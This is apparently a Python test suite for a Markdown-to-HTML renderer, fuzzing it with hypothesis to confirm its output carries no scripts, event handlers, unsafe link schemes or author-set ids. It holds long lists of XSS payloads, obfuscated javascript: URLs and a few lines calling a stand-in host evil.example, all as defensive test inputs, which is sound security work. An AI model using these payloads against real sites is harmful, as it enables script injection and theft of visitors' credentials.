"""Whatever is written, what is read holds no script, no handler, no style, no odd scheme."""

import re
from html import escape

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tidings.errors import InvalidError
from tidings.markup import render

ELEMENTS = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "input", "li", "ol", "p",
    "pre", "s", "section", "span", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "id", "rel", "class", "start", "type", "disabled", "checked", "aria-label"}


def problems(html: str) -> list[str]:
    """What in `html`, read as a browser reads it, should not be there."""
    found: list[str] = []
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in list(fragment.iter())[1:]:
        if element.tag not in ELEMENTS:
            found.append(f"element {element.tag}")
            continue
        for name, value in element.attrib.items():
            if name not in ATTRIBUTES:
                found.append(f"attribute {name}")
            if name == "id" and not re.fullmatch(r"fn(ref)?-[0-9a-f]{10}-\d+(:\d+)?", value):
                found.append(f"id {value}")
            if name == "href":
                # A browser drops tabs and line ends anywhere, and controls and spaces before a scheme.
                seen = re.sub(r"[\t\r\n]", "", value).lstrip("".join(map(chr, range(33)))).lower()
                scheme = re.match(r"([a-z][a-z0-9+.\-]*):", seen)
                if scheme and scheme[1] not in {"http", "https", "mailto"}:
                    found.append(f"scheme {scheme[1]}")
        if element.tag == "a" and element.get("rel") != "nofollow ugc noopener noreferrer":
            found.append("a link without rel")
        if element.tag == "input" and (element.get("type") != "checkbox" or element.get("disabled") is None):
            found.append("an input that can be used")
    return found


def assert_safe(source: str) -> None:
    try:
        rendered = render(source)
    except InvalidError:
        return
    assert problems(rendered.html) == []
    assert problems(rendered.excerpt) == []
    rendered.html.encode()
    assert len(rendered.excerpt.encode()) <= 5600
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", rendered.html)


SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=password>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>",
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?php ?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</p></div></article><script>alert(1)</script>",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<\x00script>alert(1)</script>",
    "<b id=body onclick=alert(1)>clobber</b>",
]

JAVASCRIPT = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "&#x0000006A;avascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript%3Aalert(1)",
    "%6aavascript:alert(1)",
    "\\javascript:alert(1)",
    "java\\script:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "javascript://www.example.com/?@alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "data:image/png;base64,iVBORw0K",
    "data&colon;text/html,x",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "ftp://example.org/",
    "intent://scan/#Intent;scheme=x;end",
    "tel:1",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "\N{FULLWIDTH COLON}javascript:alert(1)",
    "javascript\N{FULLWIDTH COLON}alert(1)",
    "\N{ZERO WIDTH SPACE}javascript:alert(1)",
    "\N{NO-BREAK SPACE}javascript:alert(1)",
    "//evil.example",
    "\\\\evil.example",
]

ADDRESS_PLACES = [
    "[x]({})",
    "[x](<{}>)",
    "[x]({} 'title')",
    "![x]({})",
    "![x](<{}>)",
    "[![x]({0})]({0})",
    "<{}>",
    "{}",
    "see {} there",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "www.{}",
    "http://{}",
    "mailto:{}",
]

BREAKOUTS = [
    '[x](http://a.example/"onmouseover=alert(1))',
    "[x](http://a.example/'onmouseover=alert(1))",
    '[x](http://a.example/ "title\\" onmouseover=alert(1) x=\\"")',
    "[x](http://a.example/ '\"><script>alert(1)</script>')",
    '![" onerror=alert(1) x="](http://a.example/x.png)',
    "![<script>alert(1)</script>](x)",
    '<http://a.example/"onmouseover=alert(1)>',
    'http://a.example/"onmouseover="alert(1)',
    "http://a.example/<script>alert(1)</script>",
    "http://a.example/?x=`onclick=alert(1)`",
    'me"onclick=alert(1)@a.example',
    "<me@a.example?subject=x'onclick=alert(1)>",
    '```" onload=alert(1) x="\ncode\n```',
    "```python\" onload='alert(1)'\ncode\n```",
    "```<script>alert(1)</script>\ncode\n```",
    "~~~html\n<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n~~~",
    "```html\n<svg onload=alert(1)>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: <svg onload=alert(1)>',
    '[^x" onclick=alert(1)]\n\n[^x" onclick=alert(1)]: x',
    "^[<script>alert(1)</script>]",
    "^[[x](javascript:alert(1))]",
    "|<script>|\n|---|\n|<svg onload=alert(1)>|",
    '|a|\n|:"onclick=-:|\n|b|',
    "- [x] <input autofocus onfocus=alert(1)>",
    "- [x](javascript:alert(1))",
    "1000000000000. x",
    "# <script>alert(1)</script> {#id onclick=alert(1)}",
    "[x]{onclick=alert(1)}",
    "<a href='javascript:alert(1)'>**x**</a>",
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "[a](b \"'onclick='alert(1)\")",
    "[x](#location)",
]


@pytest.mark.parametrize("source", SCRIPTS)
def test_markup_in_a_text_is_shown_as_text(source: str) -> None:
    for text in (
        source,
        f"# {source}",
        f"- {source}",
        f"> {source}",
        f"|{source}|\n|-|\n|{source}|",
        f"[{source}](/x)",
    ):
        assert_safe(text)


@pytest.mark.parametrize("address", JAVASCRIPT)
def test_no_address_leads_anywhere_but_to_the_web_and_to_mail(address: str) -> None:
    for place in ADDRESS_PLACES:
        assert_safe(place.format(address))


@pytest.mark.parametrize("source", BREAKOUTS)
def test_nothing_breaks_out_of_where_it_stands(source: str) -> None:
    assert_safe(source)


def test_what_looks_like_html_can_be_read() -> None:
    assert escape("<script>alert(1)</script>", quote=False) in render("<script>alert(1)</script>").html


def test_a_template_expression_stays_as_it_is() -> None:
    assert render("{{7*7}}").html == "<p>{{7*7}}</p>\n"


def test_no_id_can_be_chosen_by_the_author() -> None:
    html = render("# location {#location}\n\n<p id=location>x</p>\n\n[^location]\n\n[^location]: x").html
    assert 'id="location' not in html
    assert problems(html) == []


MARKS = [
    *"[]()!*_`~<>#|-+:\\&\n\"'^ ", "\n\n", "```", "~~~", "> ", "- ", "1. ", "- [x] ", "[^1]", "[^1]: ", "^[", "](",
    "![", "|-|\n", "http://", "www.", "@", "&#x", "    ", "\t", "python", "```html\n",
]  # fmt: skip
FRAGMENTS = st.sampled_from(SCRIPTS + JAVASCRIPT + BREAKOUTS + MARKS)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=8)), max_size=30).map("".join))
def test_no_mixture_of_markup_is_unsafe(source: str) -> None:
    assert_safe(source)


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(codec=None), max_size=200))
def test_any_text_at_all_is_rendered(source: str) -> None:
    assert_safe(source)


def test_lone_surrogates_and_controls_become_replacement_characters() -> None:
    assert render("a\ud800b\x00c\x1b[31md\ufffe").html == "<p>a\ufffdb\ufffdc\ufffd[31md\ufffd</p>\n"
